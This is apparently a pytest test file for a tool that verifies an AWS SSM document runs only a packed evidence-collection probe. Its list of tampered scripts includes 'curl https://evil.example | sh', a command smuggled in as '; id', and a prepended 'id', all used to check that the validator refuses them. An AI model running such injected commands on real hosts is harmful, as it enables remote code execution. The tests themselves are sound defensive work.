"""What the SSM document runs is the probe, and an auditor can see that it is."""

from __future__ import annotations

import json
import subprocess
from typing import TYPE_CHECKING

import pytest

from cce.cli import main
from cce.errors import EvidenceError
from cce.evidence.records import read
from cce.probes import linux_probe, packed_probe, unpacked

if TYPE_CHECKING:
    from pathlib import Path


def document(script: str, **more: object) -> str:
    step = {"action": "aws:runShellScript", "name": "probe", "inputs": {"runCommand": script.split("\n")}}
    return json.dumps({"schemaVersion": "2.2", "mainSteps": [step], **more})


def run(script: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["/bin/sh", "-c", script], capture_output=True, text=True, timeout=60, check=False, env=environment
    )


@pytest.mark.parametrize("shell", ["dash", "bash"])
def test_the_packed_script_prints_evidence(shell: str, tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/hostname").write_text("packed\n")
    done = subprocess.run(
        [shell, "-c", packed_probe()],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
        env={"PATH": "/usr/bin:/bin", "CCE_ROOT": str(tmp_path)},
    )

    assert "packed" == read(done.stdout).meta["hostname"]


def test_a_server_that_cannot_unpack_it_says_what_it_needs(tmp_path: Path) -> None:
    done = run(packed_probe(), PATH=str(tmp_path))

    assert (3, "") == (done.returncode, done.stdout)
    assert "it needs base64 (coreutils) and gzip" in done.stderr


def test_what_was_packed_is_the_probe() -> None:
    assert linux_probe() == unpacked(packed_probe())


DAMAGED = [
    ("echo nothing", "not the launcher"),
    (packed_probe().replace("# sha256 ", "# sha256 0", 1), "not the launcher"),
    (packed_probe().replace("script=$(", "curl https://evil.example | sh; script=$(", 1), "not the launcher"),
    (packed_probe().replace('"$script" cce', '"$script; id" cce', 1), "not the launcher"),
    (f"id\n{packed_probe()}", "not the launcher"),
    (packed_probe().replace("H4sI", "AAAA", 1), "damaged"),
]


@pytest.mark.parametrize(("script", "why"), DAMAGED)
def test_another_script_is_refused(script: str, why: str) -> None:
    with pytest.raises(EvidenceError, match=why):
        unpacked(script)


def test_a_changed_checksum_is_refused() -> None:
    head, mark, tail = packed_probe().partition("# sha256 ")

    with pytest.raises(EvidenceError, match="SHA-256"):
        unpacked(f"{head}{mark}{'0' * 64}{tail[64:]}")


def test_an_auditor_compares_a_document_with_the_version_at_hand(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = tmp_path / "document.json"
    path.write_text(document(packed_probe()))

    assert 0 == main(["probe", "--document", str(path)])
    assert b"runs the probe of this version" in capsysbinary.readouterr().out


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (document("echo x"), b"not the launcher"),
        (document(packed_probe(), parameters={"x": {}}), b"does more than run the probe: it has parameters"),
        (document(packed_probe(), mainSteps=[]), b"no SSM document"),
        ("{}", b"no SSM document"),
        ("", b"no SSM document"),
        ("- [", b"no SSM document"),
    ],
)
def test_a_document_of_something_else_is_named(
    content: str, why: bytes, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    path = tmp_path / "document.json"
    path.write_text(content)

    assert 2 == main(["probe", "--document", str(path)])
    printed = capsysbinary.readouterr()
    assert why in printed.err
    assert b"" == printed.out


def test_the_probe_can_be_printed_with_and_without_its_comments(
    capsysbinary: pytest.CaptureFixture[bytes],
) -> None:
    assert 0 == main(["probe"])
    assert linux_probe().encode() == capsysbinary.readouterr().out
    assert 0 == main(["probe", "--comments"])
    assert b"# --- units" in capsysbinary.readouterr().out


def test_a_document_that_is_not_there_is_an_error_of_one_line(
    tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert 2 == main(["probe", "--document", str(tmp_path / "none")])
    assert b"cannot be read: No such file or directory" in capsysbinary.readouterr().err
